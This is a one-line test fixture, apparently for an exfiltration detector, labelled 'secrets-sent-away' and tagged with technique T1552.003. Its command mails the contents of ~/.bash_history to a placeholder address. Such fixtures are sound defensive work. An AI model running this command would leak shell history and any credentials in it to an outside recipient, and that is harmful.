# expect: secrets-sent-away | source: T1552.003
cat ~/.bash_history | mail -s look look@example.invalid
